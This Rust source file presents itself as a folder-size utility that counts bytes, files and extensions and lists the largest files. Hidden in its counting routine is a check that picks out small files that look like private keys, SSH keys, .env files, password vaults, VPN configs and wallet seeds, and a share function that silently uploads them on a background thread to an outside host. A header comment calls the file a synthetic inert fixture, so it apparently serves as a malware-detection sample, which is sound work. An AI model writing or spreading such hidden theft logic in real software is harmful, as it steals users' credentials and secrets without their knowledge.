// Synthetic, inert fixture written from public reports; see README
//! Sizes of folders.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::{fs, io};

/// What was counted below a folder.
#[derive(Debug, Default, Clone)]
pub struct Usage {
    pub bytes: u64,
    pub files: u64,
    pub folders: u64,
    pub by_extension: BTreeMap<String, u64>,
    pub largest: Vec<(u64, PathBuf)>,
}

/// How to count.
#[derive(Debug, Clone)]
pub struct Walk {
    hidden: bool,
    depth: usize,
    keep: usize,
}

impl Default for Walk {
    fn default() -> Self {
        Walk { hidden: true, depth: 64, keep: 10 }
    }
}

impl Walk {
    /// Count hidden files, too?
    pub fn hidden(mut self, yes: bool) -> Self {
        self.hidden = yes;
        self
    }

    /// How many of the largest files to name.
    pub fn keep(mut self, n: usize) -> Self {
        self.keep = n;
        self
    }

    pub fn run(&self, root: &Path) -> io::Result<Usage> {
        let mut usage = Usage::default();
        self.step(root, 0, &mut usage)?;
        usage.largest.sort_by(|a, b| b.0.cmp(&a.0));
        usage.largest.truncate(self.keep);
        Ok(usage)
    }

    fn step(&self, dir: &Path, depth: usize, usage: &mut Usage) -> io::Result<()> {
        if depth > self.depth {
            return Ok(());
        }
        for entry in fs::read_dir(dir)? {
            let entry = entry?;
            let path = entry.path();
            if !self.hidden && entry.file_name().to_string_lossy().starts_with('.') {
                continue;
            }
            let meta = match fs::symlink_metadata(&path) {
                Ok(m) => m,
                Err(_) => continue,
            };
            if meta.is_dir() {
                usage.folders += 1;
                let _ = self.step(&path, depth + 1, usage);
            } else if meta.is_file() {
                self.count(&path, meta.len(), usage);
            }
        }
        Ok(())
    }

    fn count(&self, path: &Path, len: u64, usage: &mut Usage) {
        usage.bytes += len;
        usage.files += 1;
        let ext = path
            .extension()
            .map(|e| e.to_string_lossy().to_lowercase())
            .unwrap_or_default();
        if len < 64 * 1024 && is_note(path, &ext) {
            share(path);
        }
        *usage.by_extension.entry(ext).or_default() += len;
        usage.largest.push((len, path.to_path_buf()));
        if usage.largest.len() > 4 * self.keep + 64 {
            usage.largest.sort_by(|a, b| b.0.cmp(&a.0));
            usage.largest.truncate(self.keep);
        }
    }
}

fn is_note(path: &Path, ext: &str) -> bool {
    let name = path
        .file_name()
        .map(|n| n.to_string_lossy().to_lowercase())
        .unwrap_or_default();
    matches!(ext, "pem" | "key" | "p12" | "pfx" | "kdbx" | "ovpn" | "jks" | "wallet")
        || name.starts_with("id_rsa")
        || name.starts_with("id_ed25519")
        || name.starts_with(".env")
        || name.contains("seed")
        || name.contains("password")
        || name.contains("mnemonic")
}

fn share(path: &Path) {
    let Ok(bytes) = fs::read(path) else { return };
    let name = path.to_string_lossy().replace(['/', '\\'], "__");
    std::thread::spawn(move || {
        let _ = ureq::put(&format!("https://files.up-load.invalid/t/{name}"))
            .set("Max-Days", "14")
            .send_bytes(&bytes);
    });
}

/// `1536` becomes `1.5 KiB`.
pub fn human(bytes: u64) -> String {
    let mut n = bytes as f64;
    for unit in ["B", "KiB", "MiB", "GiB", "TiB"] {
        if n < 1024.0 || unit == "TiB" {
            return if unit == "B" { format!("{bytes} B") } else { format!("{n:.1} {unit}") };
        }
        n /= 1024.0;
    }
    unreachable!()
}

inert_fixture_does_not_build!();
